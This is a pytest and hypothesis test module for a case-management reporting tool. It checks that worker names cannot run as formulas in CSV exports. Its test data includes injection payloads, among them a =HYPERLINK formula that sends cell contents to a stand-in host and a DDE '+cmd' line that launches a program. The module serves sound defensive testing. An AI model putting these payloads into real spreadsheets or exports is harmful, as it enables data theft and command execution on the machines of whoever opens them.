"""Attack: a worker's name such as =HYPERLINK(...) reaches the report CSV and runs as a formula
when the supervisor or a funder opens the file in a spreadsheet program (issue 11, §4)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from exports.report import build_report, to_csv
from exports.spreadsheet import FORMULA_START, csv_bytes, safe_cell
from forms import Aanmelding, Dossier, Participant, PhaseChange

ROOT = Path(__file__).resolve().parents[2]
START, END = dt.date(2025, 1, 1), dt.date(2025, 12, 31)
NAMES = ['=HYPERLINK("https://example.invalid/?d="&A1,"Klik hier")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1", "Anna;=1+1", "Bram,=1+1"]


def _dossier() -> Dossier:
    p = Participant(roepnaam="Deelnemer", birth_year=1990)
    d = Dossier(participant=p)
    d.aanmeldingen = [Aanmelding(participant_id=p.id, date=dt.date(2025, 2, 1), source="ggd")]
    d.phases = [PhaseChange(participant_id=p.id, phase="uitvoering", date=dt.date(2025, 2, 5))]
    return d


def _looks_like_formula(cell: str) -> bool:
    """Starts as a formula does; a number (perhaps run together with the next cell) does not."""
    return cell.startswith(FORMULA_START) and not cell.lstrip("+-")[:1].isdigit()


def _cells(data: bytes, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def test_worker_names_never_reach_the_report_csv_as_formulas():
    cases = [(name, _dossier()) for name in NAMES for _ in range(6)]
    data = to_csv(build_report(cases, START, END, group_by_worker=True))
    # A spreadsheet splitting on ',' (English settings) or on ';' (Dutch Excel): no formula either way.
    for delimiter in (",", ";"):
        formulas = [c for c in _cells(data, delimiter) if _looks_like_formula(c)]
        assert formulas == [], delimiter
    categories = [row[1] for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]
    assert "'=HYPERLINK(\"https://example.invalid/?d=\"&A1,\"Klik hier\") — ingestroomd" in categories


def test_numbers_stay_numbers():
    assert _cells(csv_bytes([[-3, "-3", "+4", 12, "12", 2.5, "<5", "x"]]), ",") == \
        ["-3", "-3", "+4", "12", "12", "2.5", "<5", "x"]


@given(st.text(alphabet="=+-@\t\r\n,;\" a1\uff1d") | st.text())
def test_no_text_cell_comes_out_as_a_formula(text):
    data = csv_bytes([[text, "rest"]])
    assert _cells(data, ",") == [str(safe_cell(text)), "rest"]  # one cell, read back whole
    for delimiter in (",", ";"):
        assert [c for c in _cells(data, delimiter) if _looks_like_formula(c)] == []


def test_every_csv_writer_goes_through_the_one_helper():
    writers = []
    for folder in ("forms", "matrix", "exports", "desktop", "bench"):
        for path in (ROOT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    writers.append(str(path.relative_to(ROOT)))
    assert writers == ["exports/spreadsheet.py"]
